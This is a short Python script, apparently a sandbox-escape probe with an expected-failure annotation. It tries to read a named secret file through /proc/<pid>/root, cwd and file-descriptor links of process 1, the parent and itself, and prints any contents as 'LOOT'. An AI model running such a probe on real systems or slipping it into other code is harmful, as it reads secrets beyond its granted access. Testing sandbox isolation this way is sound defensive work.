# Leaves through the root folder of process 1, and of the parent.
# ends: raised, no such door
import json
import sys

about = json.load(sys.stdin)
for number in (1, about["parent"], "self", "thread-self"):
    for door in ("root", "cwd", "fd/3", "task/1/root"):
        try:
            print("LOOT", open(f"/proc/{number}/{door}{about['secret_file']}").read())
        except OSError:
            pass
raise RuntimeError("no such door")
